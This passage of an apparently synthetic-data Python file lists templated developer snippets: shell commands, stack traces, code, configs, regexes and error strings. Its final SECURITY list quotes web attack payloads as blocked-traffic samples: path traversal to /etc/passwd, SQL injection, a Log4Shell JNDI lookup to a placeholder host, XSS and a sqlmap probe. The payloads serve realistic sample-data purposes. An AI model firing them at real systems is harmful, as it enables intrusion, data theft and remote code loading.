    "  Warning  OOMKilled  3m    kubelet  Container %svc% exceeded memory limit (512Mi)",
    "kubectl get events -n %ns% --sort-by=.lastTimestamp | tail -20",
    "kubectl top pods -n %ns% --sort-by=memory | head",
    "kubectl get pods -n ci --no-headers | awk '$3==\"Error\" {print $1}' | xargs kubectl delete pod -n ci",
    "kubectl port-forward svc/%svc% 8080:80 -n %ns%",
    "kubectl get secret %svc%-db -n %ns% -o jsonpath='{.data.username}' | base64 -d",
    "docker run --rm -it -v \"$PWD\":/src -w /src python:3.11-slim bash",
    "docker compose up -d --build && docker compose logs -f %svc%",
    "docker ps --format '{{.Names}}\\t{{.Status}}' | sort",
    "docker system prune -af --volumes  # careful, nukes everything",
    "docker build -t ghcr.io/acme/%svc%:%ver% --build-arg PYTHON_VERSION=3.11 . && docker push "
    "ghcr.io/acme/%svc%:%ver%",
    "git log --oneline --graph -n 20 origin/main",
    "git rebase -i HEAD~3",
    "git bisect start && git bisect bad HEAD && git bisect good %ver%",
    "git push --force-with-lease origin %branch%",
    "git diff main...HEAD -- app/ | less",
    "git fetch origin && git checkout -b %branch% origin/main",
    "git log -S 'legacy_status' --oneline -- '*.py'",
    "git config --global rerere.enabled true",
    "curl -s -H \"Authorization: Bearer $TOKEN\" \"https://api.acme.io/v1/orders?status=pending&limit=100\" "
    "| jq '.items[] | {id, total}'",
    "curl -sS -o /dev/null -w '%{http_code} %{time_total}\\n' https://%host%/healthz",
    "curl -X POST -H 'Content-Type: application/json' -d '{\"name\": \"test\", \"plan\": \"pro\"}' "
    "http://localhost:8080/api/v1/teams",
    "curl -v --resolve api.acme.io:443:%ip% https://api.acme.io/readyz",
    "curl -s 'http://localhost:9090/api/v1/query?query=up%7Bjob%3D%22%svc%%22%7D' | jq '.data.result'",
    "sudo systemctl restart nginx && sudo journalctl -u nginx -n 100 --no-pager",
    "sudo tail -f /var/log/nginx/error.log",
    "awk '{print $1}' /var/log/nginx/access.log | sort | uniq -c | sort -rn | head -20",
    "awk '$9 >= 500 {print $7}' /var/log/nginx/access.log | sort | uniq -c | sort -rn | head",
    "grep -rn \"TODO\" --include=*.py . | wc -l",
    "find . -name '*.log' -mtime +7 -exec rm {} \\;",
    "find /var/lib/docker -type f -size +1G 2>/dev/null",
    "du -sh /var/* 2>/dev/null | sort -h | tail",
    "df -h / && free -m",
    "ps aux --sort=-%mem | head",
    "sudo lsof -i :%port%",
    "ss -tlnp | grep %port%",
    "ssh -J bastion.prod.acme.io ubuntu@%ip%",
    "rsync -avz --delete ./dist/ deploy@web-03:/srv/www/app/",
    "scp %host%:/var/log/app/%svc%.log.1.gz ./",
    "tar -czf backup-$(date +%F).tar.gz /etc/nginx",
    "openssl s_client -connect api.acme.io:443 -servername api.acme.io </dev/null 2>/dev/null | openssl x509 "
    "-noout -dates -subject",
    "for i in $(seq 1 20); do curl -s -o /dev/null -w '%{http_code}\\n' https://staging.acme.io/; done | sort "
    "| uniq -c",
    "while true; do kubectl get pods -n %ns% | grep %svc%; sleep 2; done",
    "export PATH=\"$HOME/.local/bin:$PATH\"",
    "chmod 600 ~/.ssh/id_ed25519 && ssh-add ~/.ssh/id_ed25519",
    "pip install -r requirements.txt --no-cache-dir",
    "npm ci && npm run build -- --mode production",
    "cargo build --release && ./target/release/%svc% --config config.toml",
    "go test ./... -run TestCheckout -v -count=1",
    "terraform plan -target=module.rds -out plan.out && terraform apply plan.out",
    "helm upgrade --install %svc% ./charts/%svc% -n %ns% --set image.tag=%ver% --wait",
    "aws s3 ls s3://acme-%env%-backups/postgres/ --recursive | tail -5",
    "aws logs tail /ecs/%svc% --follow --since 10m --filter-pattern ERROR",
    "psql \"postgresql://readonly@%host%:5432/app\" -c \"SELECT count(*) FROM orders WHERE status = 'pending'\"",
    "pg_dump -Fc -h %host% -U app app > app_%ymdc%.dump",
    "redis-cli -h redis-01.prod.internal --scan --pattern 'session:*' | head",
    "redis-cli -h redis-01.prod.internal INFO memory | grep used_memory_human",
    "nc -zv %host% %port%",
    "dig +short api.acme.io && dig +short CNAME www.acme.io",
    "crontab -l\n*/5 * * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1\n"
    "0 3 * * 0 /usr/local/bin/rotate-keys --env %env%",
    "sed -i 's/replicas: 2/replicas: 4/' k8s/%svc%/deployment.yaml",
    "python -c 'import sys, ssl; print(sys.version, ssl.OPENSSL_VERSION)'",
    "echo $? ; echo $SHELL ; which python3",
    "jq -r '.[] | select(.level == \"error\") | .msg' app.log | sort | uniq -c",
    "xargs -a hosts.txt -I{} ssh {} 'uptime'",
    "cat /etc/os-release | grep PRETTY_NAME",
    "cat /proc/sys/vm/overcommit_memory",
    "ulimit -n 65536",
    "tcpdump -i eth0 -nn port 5432 -c 100",
    "strace -f -p $(pgrep -f gunicorn | head -1) -e trace=network",
    "$ make test\npytest -q\n..........F.....\nFAILED tests/test_billing.py::test_refund_rounding - assert 1999 "
    "== 2000\nmake: *** [Makefile:23: test] Error 1",
    "$ npm run lint\n\n> web@1.4.0 lint\n> eslint src --ext .ts,.tsx\n\n/home/ci/web/src/api/client.ts\n"
    "  42:7  error  'res' is assigned a value but never used  @typescript-eslint/no-unused-vars\n\n"
    "✖ 1 problem (1 error, 0 warnings)",
    "Get-Process | Where-Object { $_.CPU -gt 100 } | Sort-Object CPU -Descending | Select-Object -First 10",
    "Get-ChildItem C:\\inetpub\\logs\\LogFiles -Recurse -Filter *.log | Where-Object { $_.LastWriteTime -lt "
    "(Get-Date).AddDays(-30) } | Remove-Item",
    "setx JAVA_HOME \"C:\\Program Files\\Eclipse Adoptium\\jdk-17.0.11.9-hotspot\"",
    "wsl --shutdown && wsl -d Ubuntu-22.04",
    "brew install postgresql@16 && brew services start postgresql@16",
    "gcloud container clusters get-credentials prod-%region% --project acme-prod",
    "vault kv get -field=password secret/%env%/%svc%/db",
    "ansible-playbook -i inventory/%env% site.yml --limit web --check --diff",
    "journalctl -k --since '1 hour ago' | grep -i 'out of memory'",
    "systemctl list-units --failed",
    "ls -la /etc/nginx/sites-enabled/",
    "history | grep kubectl | tail -5",
]
SHELL_ONELINERS = ["kubectl get pods -n %ns%", "git pull --rebase", "make test", "docker compose ps",
                   "kubectl logs -f deploy/%svc% -n %ns%", "npm run dev", "tail -f /var/log/app/%svc%.log",
                   "git log -1 --format=%H", "helm rollback %svc% -n %ns%", "ssh %host%", "htop",
                   "curl -I https://%host%/healthz", "df -h", "kubectl get nodes -o wide", "terraform fmt -recursive",
                   "python -m pytest -x -k refund", "go mod tidy", "cargo clippy -- -D warnings"]

PY = [
    "Traceback (most recent call last):\n  File \"/app/app/services/billing.py\", line %n%, in charge\n"
    "    resp = client.post(url, json=payload, timeout=5)\n  File \"/usr/local/lib/python3.11/site-packages/httpx/"
    "_client.py\", line 1145, in post\n    return self.request(\n"
    "httpx.ReadTimeout: The read operation timed out",
    "Traceback (most recent call last):\n  File \"/app/worker.py\", line 88, in handle\n"
    "    user_id = event[\"user_id\"]\nKeyError: 'user_id'",
    "sqlalchemy.exc.OperationalError: (psycopg.OperationalError) connection failed: could not connect to server: "
    "Connection refused\n\tIs the server running on host \"%host%\" (%ip%) and accepting\n"
    "\tTCP/IP connections on port 5432?\n(Background on this error at: https://sqlalche.me/e/20/e3q8)",
    "pydantic_core._pydantic_core.ValidationError: 1 validation error for OrderIn\ntotal_cents\n"
    "  Input should be greater than 0 [type=greater_than, input_value=-5, input_type=int]",
    "ModuleNotFoundError: No module named 'psycopg'",
    "def chunked(items: list[int], size: int) -> Iterator[list[int]]:\n    for i in range(0, len(items), size):\n"
    "        yield items[i:i + size]\n\n\nfor batch in chunked(ids, 1000):\n"
    "    session.execute(delete(Session).where(Session.id.in_(batch)))\n    session.commit()",
    "result = subprocess.run([\"git\", \"rev-parse\", \"--short\", \"HEAD\"], check=True, capture_output=True, "
    "text=True)\nversion = result.stdout.strip()",
    "with open(\"/etc/app/config.yaml\") as f:\n    config = yaml.safe_load(f)",
    "resp = requests.get(\"https://api.acme.io/v1/orders\", params={\"status\": \"pending\", \"limit\": 100}, "
    "timeout=10)\nresp.raise_for_status()\nfor order in resp.json()[\"items\"]:\n    print(order[\"id\"], "
    "order[\"total\"])",
    "@dataclass(frozen=True)\nclass Money:\n    amount_cents: int\n    currency: str = \"EUR\"\n\n"
    "    def __add__(self, other: \"Money\") -> \"Money\":\n        assert self.currency == other.currency\n"
    "        return Money(self.amount_cents + other.amount_cents, self.currency)",
    "@pytest.fixture\ndef client(app):\n    with app.test_client() as c:\n        yield c\n\n\n"
    "def test_refund(client):\n    r = client.post(\"/api/v1/orders/1/refunds\", json={\"amount_cents\": 500})\n"
    "    assert r.status_code == 201",
    "# please don't use eval() for this, ast.literal_eval is enough\nvalue = ast.literal_eval(raw)",
    "logging.basicConfig(level=logging.INFO, format=\"%(asctime)s %(levelname)s %(name)s: %(message)s\")",
    "async def fetch_all(urls: list[str]) -> list[bytes]:\n    async with httpx.AsyncClient(timeout=10) as client:\n"
    "        responses = await asyncio.gather(*(client.get(u) for u in urls))\n"
    "    return [r.content for r in responses]",
    "token = os.environ.get(\"SLACK_BOT_TOKEN\")\nif not token:\n    sys.exit(\"SLACK_BOT_TOKEN is not set\")",
    "=================================== FAILURES ===================================\n"
    "_____________________________ test_parse_amount ______________________________\n\n"
    "    def test_parse_amount():\n>       assert parse_amount(\"1.234,56\") == 123456\nE       AssertionError: "
    "assert 1234 == 123456\n\ntests/test_money.py:14: AssertionError",
    "django.db.utils.IntegrityError: null value in column \"team_id\" of relation \"accounts_user\" violates "
    "not-null constraint\nDETAIL:  Failing row contains (%id%, %email%, null, t, 2024-06-21 10:11:12+00).",
    "RuntimeError: Event loop is closed",
    "  File \"/usr/lib/python3.11/json/decoder.py\", line 355, in raw_decode\n"
    "    raise JSONDecodeError(\"Expecting value\", s, err.value) from None\n"
    "json.decoder.JSONDecodeError: Expecting value: line 1 column 1 (char 0)",
    "df = pd.read_sql(\"SELECT * FROM orders WHERE created_at > %(since)s\", engine, params={\"since\": since})\n"
    "df.groupby(\"status\")[\"total_cents\"].sum().sort_values(ascending=False)",
    "PATTERN = re.compile(r\"^(?P<ip>\\S+) \\S+ \\S+ \\[(?P<ts>[^\\]]+)\\] \\\"(?P<req>[^\\\"]*)\\\" "
    "(?P<status>\\d{3})\")",
    "ERROR: Could not find a version that satisfies the requirement torch==2.3.1+cu121 (from versions: none)",
    "class Settings(BaseSettings):\n    database_url: str = \"postgresql+psycopg://app@localhost/app\"\n"
    "    redis_url: str = \"redis://localhost:6379/0\"\n    debug: bool = False\n\n"
    "    model_config = SettingsConfigDict(env_file=\".env\")",
    "from django.utils.html import format_html\n\nformat_html('<a href=\"{}\">{}</a>', url, label)  # escapes both",
    "import pickle  # TODO: replace with json, pickle from the cache is a footgun\ndata = pickle.loads(blob)",
]
JS = [
    "TypeError: Cannot read properties of undefined (reading 'map')\n    at OrderList (webpack-internal:///./src/"
    "components/OrderList.tsx:23:31)\n    at renderWithHooks (react-dom.development.js:16305:18)",
    "export function OrderList({ orders }: { orders: Order[] }) {\n  const [open, setOpen] = useState(false);\n"
    "  return (\n    <ul className=\"orders\">\n      {orders.map((o) => (\n        <li key={o.id} onClick={() => "
    "setOpen(!open)}>\n          {o.number} — {formatMoney(o.totalCents)}\n        </li>\n      ))}\n    </ul>\n"
    "  );\n}",
    "useEffect(() => {\n  const ctrl = new AbortController();\n  fetch(`/api/v1/orders?page=${page}`, { signal: "
    "ctrl.signal })\n    .then((r) => r.json())\n    .then(setOrders)\n    .catch(console.error);\n"
    "  return () => ctrl.abort();\n}, [page]);",
    "npm ERR! code ERESOLVE\nnpm ERR! ERESOLVE unable to resolve dependency tree\nnpm ERR! Found: react@18.3.1\n"
    "npm ERR! Could not resolve dependency:\nnpm ERR! peer react@\"^17.0.0\" from react-beautiful-dnd@13.1.1",
    "app.get('/api/users/:id', async (req, res, next) => {\n  try {\n    const user = await User.findByPk(req.params"
    ".id);\n    if (!user) return res.status(404).json({ error: 'not_found' });\n    res.json(user);\n"
    "  } catch (err) {\n    next(err);\n  }\n});",
    "interface ApiResponse<T> {\n  ok: boolean;\n  data?: T;\n  error?: { code: string; message: string };\n}\n\n"
    "type Paginated<T> = ApiResponse<{ items: T[]; next_cursor: string | null }>;",
    "const el = document.querySelector<HTMLInputElement>('#search');\nel?.addEventListener('input', debounce((e) "
    "=> search(e.target.value), 250));",
    "window.location.href = `/login?next=${encodeURIComponent(location.pathname + location.search)}`;",
    "localStorage.setItem('theme', prefersDark ? 'dark' : 'light');",
    "// review: please avoid this, it renders unescaped HTML\n<div dangerouslySetInnerHTML={{ __html: "
    "comment.body }} />",
    "Uncaught (in promise) SyntaxError: Unexpected token '<', \"<!DOCTYPE \"... is not valid JSON",
    "Access to fetch at 'https://api.acme.io/v1/me' from origin 'http://localhost:5173' has been blocked by CORS "
    "policy: No 'Access-Control-Allow-Origin' header is present on the requested resource.",
    "{\n  \"name\": \"web\",\n  \"version\": \"1.4.0\",\n  \"scripts\": {\n    \"dev\": \"vite\",\n"
    "    \"build\": \"tsc -b && vite build\",\n    \"test\": \"vitest run\"\n  },\n  \"engines\": { \"node\": "
    "\">=20\" }\n}",
    "const total = items.reduce((sum, { qty, price }) => sum + qty * price, 0);",
    "export const handler: Handler = async (event) => {\n  const body = JSON.parse(event.body ?? '{}');\n"
    "  return { statusCode: 200, body: JSON.stringify({ received: body.id }) };\n};",
    "Error: listen EADDRINUSE: address already in use :::3000\n    at Server.setupListenHandle [as _listen2] "
    "(node:net:1872:16)",
    "FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory",
    "const re = /^(?<year>\\d{4})-(?<month>\\d{2})-(?<day>\\d{2})$/u;\nconst { year, month } = "
    "re.exec(input)?.groups ?? {};",
    "it('renders the empty state', async () => {\n  render(<OrderList orders={[]} />);\n"
    "  expect(await screen.findByText(/no orders yet/i)).toBeInTheDocument();\n});",
    "<template>\n  <button :disabled=\"loading\" @click=\"save\">{{ loading ? 'Saving…' : 'Save' }}</button>\n"
    "</template>",
]
GO = [
    "panic: runtime error: invalid memory address or nil pointer dereference\n[signal SIGSEGV: segmentation "
    "violation code=0x1 addr=0x18 pc=0x6b1c2a]\n\ngoroutine 1 [running]:\nmain.(*Server).handle(0x0, "
    "{0x7f8e2c, 0xc0001a2000})\n\t/app/cmd/%svc%/main.go:%n% +0x2a\nmain.main()\n\t/app/cmd/%svc%/main.go:31 +0x1d",
    "func (s *Server) health(w http.ResponseWriter, r *http.Request) {\n\tctx, cancel := context.WithTimeout("
    "r.Context(), 2*time.Second)\n\tdefer cancel()\n\tif err := s.db.PingContext(ctx); err != nil {\n"
    "\t\thttp.Error(w, \"db down\", http.StatusServiceUnavailable)\n\t\treturn\n\t}\n\tw.WriteHeader(http.StatusOK)\n}",
    "if err != nil {\n\treturn fmt.Errorf(\"load config %q: %w\", path, err)\n}",
    "fatal error: all goroutines are asleep - deadlock!\n\ngoroutine 1 [chan receive]:\nmain.main()\n"
    "\t/tmp/sandbox/prog.go:9 +0x3c",
    "module github.com/acme/%svc%\n\ngo 1.22\n\nrequire (\n\tgithub.com/jackc/pgx/v5 v5.6.0\n"
    "\tgo.uber.org/zap v1.27.0\n)",
    "var wg sync.WaitGroup\nfor _, u := range urls {\n\twg.Add(1)\n\tgo func(u string) {\n\t\tdefer wg.Done()\n"
    "\t\tfetch(u)\n\t}(u)\n}\nwg.Wait()",
    "--- FAIL: TestCheckout (0.02s)\n    checkout_test.go:57: got status 500, want 201\nFAIL\nFAIL\tgithub.com/acme/"
    "checkout/internal/api\t0.412s",
    "tmpl := template.Must(template.New(\"mail\").Parse(\"Hello {{.Name}}, your order {{.OrderID}} has shipped.\"))",
]
JAVA = [
    "Exception in thread \"main\" java.lang.NullPointerException: Cannot invoke \"String.length()\" because "
    "\"name\" is null\n\tat com.acme.billing.InvoiceService.render(InvoiceService.java:88)\n\tat com.acme.billing."
    "InvoiceController.get(InvoiceController.java:41)",
    "org.springframework.dao.DataIntegrityViolationException: could not execute statement; SQL [n/a]; constraint "
    "[uk_users_email]\nCaused by: org.postgresql.util.PSQLException: ERROR: duplicate key value violates unique "
    "constraint \"uk_users_email\"",
    "@GetMapping(\"/orders/{id}\")\npublic ResponseEntity<OrderDto> get(@PathVariable long id) {\n"
    "    return orders.findById(id).map(OrderDto::from).map(ResponseEntity::ok)\n"
    "        .orElse(ResponseEntity.notFound().build());\n}",
    "2024-06-22 10:15:32.481  WARN 1 --- [nio-8080-exec-7] o.h.engine.jdbc.spi.SqlExceptionHelper   : SQL Error: 0, "
    "SQLState: 57014",
    "java.util.concurrent.TimeoutException: Did not observe any item or terminal signal within 5000ms in 'map'",
    "int cores = Runtime.getRuntime().availableProcessors();\nExecutorService pool = Executors.newFixedThreadPool("
    "cores * 2);",
    "<dependency>\n  <groupId>org.postgresql</groupId>\n  <artifactId>postgresql</artifactId>\n"
    "  <version>42.7.3</version>\n</dependency>",
    "Caused by: java.lang.OutOfMemoryError: Java heap space\n\tat java.base/java.util.Arrays.copyOf(Arrays.java:3537)",
    "val user = repo.findByEmail(email) ?: throw NotFoundException(\"no user $email\")",
    "System.NullReferenceException: Object reference not set to an instance of an object.\n   at Acme.Api."
    "Controllers.OrdersController.Get(Int32 id) in C:\\src\\Acme.Api\\Controllers\\OrdersController.cs:line 42",
]
PHP = [
    "$users = DB::table('users')\n    ->where('votes', '>', 100)\n    ->orderBy('created_at', 'desc')\n    ->get();",
    "Route::get('/users/{id}', [UserController::class, 'show'])->middleware('auth');",
    "<p>Hello, <?php echo htmlspecialchars($name, ENT_QUOTES, 'UTF-8'); ?></p>",
    "PHP Fatal error:  Uncaught Error: Call to undefined method App\\Models\\Order::refunds() in /var/www/html/app/"
    "Http/Controllers/OrderController.php:57",
    "$stmt = $pdo->prepare('SELECT * FROM orders WHERE customer_id = :id AND status = :status');\n"
    "$stmt->execute(['id' => $customerId, 'status' => 'paid']);\n$rows = $stmt->fetchAll(PDO::FETCH_ASSOC);",
    "Your requirements could not be resolved to an installable set of packages.\n\n  Problem 1\n"
    "    - laravel/framework[v11.0.0, ..., v11.12.0] require php ^8.2 -> your php version (8.1.27) does not "
    "satisfy that requirement.",
    "public function handle(Request $request, Closure $next): Response\n{\n    if (! $request->user()?->isAdmin()) "
    "{\n        abort(403);\n    }\n    return $next($request);\n}",
    "@foreach ($orders as $order)\n    <tr><td>{{ $order->number }}</td><td>{{ $order->total }}</td></tr>\n"
    "@endforeach",
]
RUBY = [
    "User.where(active: true).find_each(batch_size: 500) { |u| u.touch(:synced_at) }",
    "NoMethodError: undefined method `name' for nil:NilClass\n  app/views/orders/show.html.erb:12",
    "== 20240621101500 AddShippedAtToOrders: migrating ============================\n-- add_column(:orders, "
    ":shipped_at, :datetime)\n   -> 0.0042s\n== 20240621101500 AddShippedAtToOrders: migrated (0.0043s) ===",
    "gem 'rails', '~> 7.1.3'\ngem 'pg', '~> 1.5'\ngem 'sidekiq', '~> 7.2'",
    "scope :recent, -> { where('created_at > ?', 2.weeks.ago).order(created_at: :desc) }",
    "<%= link_to 'Edit', edit_order_path(@order), class: 'btn' %>",
]
RUST = [
    "error[E0382]: borrow of moved value: `config`\n  --> src/main.rs:14:20\n   |\n9  |     let config = "
    "Config::load()?;\n   |         ------ move occurs because `config` has type `Config`\n...\n14 |     "
    "println!(\"{:?}\", config);\n   |                    ^^^^^^ value borrowed here after move",
    "#[tokio::main]\nasync fn main() -> anyhow::Result<()> {\n    let listener = TcpListener::bind(\"0.0.0.0:8080\")"
    ".await?;\n    axum::serve(listener, app()).await?;\n    Ok(())\n}",
    "match resp.status() {\n    StatusCode::OK => Ok(resp.json::<Order>().await?),\n    StatusCode::NOT_FOUND => "
    "Err(Error::NotFound),\n    s => Err(Error::Unexpected(s)),\n}",
    "thread 'main' panicked at src/parser.rs:88:14:\ncalled `Option::unwrap()` on a `None` value\nnote: run with "
    "`RUST_BACKTRACE=1` environment variable to display a backtrace",
    "[dependencies]\nserde = { version = \"1\", features = [\"derive\"] }\ntokio = { version = \"1.38\", features = "
    "[\"full\"] }\nsqlx = { version = \"0.7\", features = [\"postgres\", \"runtime-tokio\"] }",
]
MARKUP = [
    "<div class=\"alert alert-{{ level }}\">{{ message }}</div>",
    "{% for order in orders %}\n  <tr>\n    <td>{{ order.number }}</td>\n    <td>{{ order.total | money }}</td>\n"
    "  </tr>\n{% else %}\n  <tr><td colspan=\"2\">No orders yet</td></tr>\n{% endfor %}",
    "{% if user.is_admin %}<a href=\"{{ url_for('admin.index') }}\">Admin</a>{% endif %}",
    "{{#each items}}\n  <li class=\"item\">{{this.name}} — {{formatPrice this.price}}</li>\n{{/each}}",
    "<script src=\"https://cdn.jsdelivr.net/npm/chart.js@4.4.3/dist/chart.umd.min.js\"></script>",
    "<img src=\"/static/img/logo.svg\" alt=\"Acme logo\" width=\"120\" height=\"32\">",
    "<iframe src=\"https://grafana.acme.io/d-solo/api/api-latency?orgId=1&panelId=4\" width=\"600\" height="
    "\"300\" frameborder=\"0\"></iframe>",
    "<form method=\"post\" action=\"/me/location\">\n  <input type=\"hidden\" name=\"csrf_token\" value=\"{{ csrf }}\">"
    "\n  <input name=\"place\" maxlength=\"100\" required>\n  <button type=\"submit\">Save</button>\n</form>",
    "<table style=\"width:100%;border-collapse:collapse\">\n  <tr><td style=\"padding:8px\">Hi {{first_name}},"
    "</td></tr>\n</table>",
    ".btn-primary:hover {\n  background: var(--brand-600);\n  box-shadow: 0 0 0 3px rgba(59, 130, 246, .5);\n}",
    "@media (max-width: 640px) {\n  .sidebar { display: none; }\n  .content { padding: 0 1rem; }\n}",
    ".quote::before { content: \"\\201C\"; font-size: 2em; }",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 24 24\"><path d=\"M12 2L2 7l10 5 10-5-10-5z\"/></svg>",
    "<Route path=\"/orders/:id\" element={<OrderPage />} />",
    "<input type=\"email\" name=\"email\" pattern=\"[^@\\s]+@[^@\\s]+\" autocomplete=\"email\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'self'; img-src 'self' data: https:\">",
]
CONFIG = [
    "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: %svc%\n  namespace: %ns%\nspec:\n  replicas: 3\n"
    "  template:\n    spec:\n      containers:\n        - name: %svc%\n          image: ghcr.io/acme/%svc%:%ver%\n"
    "          resources:\n            limits: {cpu: \"1\", memory: 512Mi}\n          readinessProbe:\n"
    "            httpGet: {path: /readyz, port: 8080}",
    "name: ci\non:\n  pull_request:\n  push:\n    branches: [main]\njobs:\n  test:\n    runs-on: ubuntu-latest\n"
    "    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n"
    "        with: {python-version: '3.11'}\n      - run: |\n          pip install -r requirements.txt\n"
    "          pytest -q --junitxml=report.xml\n        env:\n          DATABASE_URL: ${{ secrets.TEST_DATABASE_URL }}",
    "services:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_PASSWORD: postgres\n"
    "    ports: [\"5432:5432\"]\n  app:\n    build: .\n    depends_on: [db]\n    ports: [\"8000:8000\"]",
    "groups:\n  - name: %svc%\n    rules:\n      - alert: HighErrorRate\n        expr: sum(rate(http_requests_total{"
    "service=\"%svc%\",status=~\"5..\"}[5m])) / sum(rate(http_requests_total{service=\"%svc%\"}[5m])) > 0.05\n"
    "        for: 10m\n        labels: {severity: page}",
    "- name: install nginx\n  ansible.builtin.apt:\n    name: nginx\n    state: present\n  become: true\n"
    "  notify: restart nginx",
    "[tool.poetry.dependencies]\npython = \"^3.11\"\nfastapi = \"^0.111\"\nsqlalchemy = {extras = [\"asyncio\"], "
    "version = \"^2.0\"}",
    "[build]\n  command = \"npm run build\"\n  publish = \"dist\"\n\n[[redirects]]\n  from = \"/api/*\"\n"
    "  to = \"https://api.acme.io/:splat\"\n  status = 200",
    "server {\n    listen 443 ssl http2;\n    server_name api.acme.io;\n\n    location /api/ {\n"
    "        proxy_pass http://upstream_api;\n        proxy_set_header Host $host;\n"
    "        proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n        proxy_read_timeout 30s;\n"
    "    }\n}",
    "location ~* \\.(?:css|js|woff2?|svg)$ {\n    expires 30d;\n    add_header Cache-Control \"public, immutable\";"
    "\n    try_files $uri =404;\n}",
    "rewrite ^/docs/v1/(.*)$ /docs/v2/$1 permanent;",
    "map $http_upgrade $connection_upgrade {\n    default upgrade;\n    ''      close;\n}",
    "limit_req_zone $binary_remote_addr zone=login:10m rate=10r/m;\n\nlocation = /login {\n"
    "    limit_req zone=login burst=5 nodelay;\n    proxy_pass http://app;\n}",
    "add_header Strict-Transport-Security \"max-age=63072000; includeSubDomains; preload\" always;\n"
    "add_header X-Content-Type-Options nosniff always;",
    "log_format main '$remote_addr - $remote_user [$time_local] \"$request\" $status $body_bytes_sent '\n"
    "                '\"$http_referer\" \"$http_user_agent\" rt=$request_time';",
    "[Unit]\nDescription=%svc% worker\nAfter=network-online.target\n\n[Service]\nUser=app\n"
    "ExecStart=/opt/%svc%/bin/worker --config /etc/%svc%/worker.toml\nRestart=on-failure\n\n[Install]\n"
    "WantedBy=multi-user.target",
    "# .env.example\nDATABASE_URL=postgresql://app:app@localhost:5432/app\nREDIS_URL=redis://localhost:6379/0\n"
    "LOG_LEVEL=debug",
    "FROM python:3.11-slim AS base\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r "
    "requirements.txt\nCOPY . .\nUSER 1000\nCMD [\"gunicorn\", \"-k\", \"uvicorn.workers.UvicornWorker\", "
    "\"app.main:app\"]",
    "resource \"aws_db_instance\" \"main\" {\n  engine         = \"postgres\"\n  engine_version = \"16.3\"\n"
    "  instance_class = \"db.r6g.large\"\n  multi_az       = true\n}",
    "image:\n  repository: ghcr.io/acme/%svc%\n  tag: %ver%\nenv:\n  - name: LOG_LEVEL\n    value: info\n"
    "ingress:\n  hosts: [\"%svc%.acme.io\"]",
    "{\n  \"compilerOptions\": {\n    \"target\": \"ES2022\",\n    \"strict\": true,\n    \"paths\": { \"@/*\": "
    "[\"./src/*\"] }\n  }\n}",
]
REGEX = [
    r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(?:\.\d+)?Z$",
    r"^[a-zA-Z0-9._%+-]+@[a-zA-Z0-9.-]+\.[a-zA-Z]{2,}$",
    r"(?i)\b(?:error|fatal|panic)\b",
    r"^/api/v[12]/users/(\d+)$",
    r"[^\x00-\x7F]+",
    r"(?<=\$)\d+(?:\.\d{2})?",
    r"s/\s+$//g",
    r"^(?:[0-9]{1,3}\.){3}[0-9]{1,3}$",
    r"\b[A-Z]{2,5}-\d{1,5}\b",
    r"^v?(\d+)\.(\d+)\.(\d+)(?:-([0-9A-Za-z.-]+))?$",
    r"<@(U[A-Z0-9]+)(?:\|[^>]+)?>",
    r"grep -E ' (5[0-9]{2}) ' access.log",
    r"(?P<key>\w+)=(?P<value>\"[^\"]*\"|\S+)",
    r"^(?!.*\.\.)[\w.-]+$",
    r"\[(\d{2}/\w{3}/\d{4}:\d{2}:\d{2}:\d{2} [+-]\d{4})\]",
]
ERRORS = [
    "x509: certificate signed by unknown authority", "dial tcp %ip%:5432: connect: connection refused",
    "OOMKilled (exit code 137)", "Back-off restarting failed container", "CrashLoopBackOff",
    "Permission denied (publickey).", "fatal: refusing to merge unrelated histories",
    "ECONNRESET", "502 Bad Gateway", "upstream request timeout", "context deadline exceeded",
    "too many open files", "no space left on device", "FATAL:  remaining connection slots are reserved for "
    "non-replication superuser connections", "Error: Cannot find module '@/lib/api'",
    "ImagePullBackOff: manifest unknown", "SSL_ERROR_SYSCALL", "ERR_CONNECTION_RESET",
    "error: failed to push some refs to 'github.com:acme/%repo%.git'", "Segmentation fault (core dumped)",
    "java.net.SocketTimeoutException: Read timed out", "429 Too Many Requests", "The specified key does not exist.",
    "TLS handshake timeout", "i/o timeout", "cannot allocate memory", "Exited with code exit status 1",
]
PATHS = ["/etc/nginx/conf.d/default.conf", "/etc/ssl/certs/ca-certificates.crt", "/var/lib/postgresql/16/main/pg_wal",
         "/proc/sys/vm/overcommit_memory", "/usr/local/lib/python3.11/site-packages/", "~/.kube/config",
         "~/.ssh/config", "/var/log/nginx/access.log", "/etc/hosts", "/etc/resolv.conf", "/opt/%svc%/bin/",
         "/tmp/%svc%.sock", "../../common/config.yaml", "./scripts/backfill.py", "/var/run/docker.sock",
         r"C:\Program Files\Git\bin\bash.exe", r"C:\Users\%user%\AppData\Local\Temp", r"D:\builds\%repo%\out",
         "/home/%user%/.config/Code/User/settings.json", "/etc/systemd/system/%svc%.service",
         "/sys/fs/cgroup/memory.max", "/dev/shm", "/srv/www/app/current", "/etc/letsencrypt/live/acme.io/"]
SECURITY = [
    ("WAF flagged this one from %ip%, looks like a scanner to me:",
     "%ip% - - [%clf%] \"GET /index.php?page=../../../../etc/passwd HTTP/1.1\" 403 153 \"-\" \"Mozilla/5.0\""),
    ("someone is trying the classic on the login form again :shield:", "username=admin' OR '1'='1' -- &password=x"),
    ("Log4Shell probes in the User-Agent again, all blocked at the edge", "User-Agent: ${jndi:ldap://%ip%:1389/a}"),
    ("pentest finding SEC-%n%: stored XSS in the display name, fixed in {link}",
     "<img src=x onerror=alert(document.domain)>"),
    ("the search box got this today, 403 as expected", "q=<script>alert(1)</script>"),
    ("sqlmap noise on /api/v1/orders, the UA gives it away",
     "GET /api/v1/orders?id=1%20UNION%20SELECT%20NULL,NULL,version()-- HTTP/1.1\nUser-Agent: sqlmap/1.8.4#stable "
     "(https://sqlmap.org)"),
    ("dotfile probes, nothing to worry about but FYI", "GET /.env HTTP/1.1\nGET /.git/config HTTP/1.1\n"
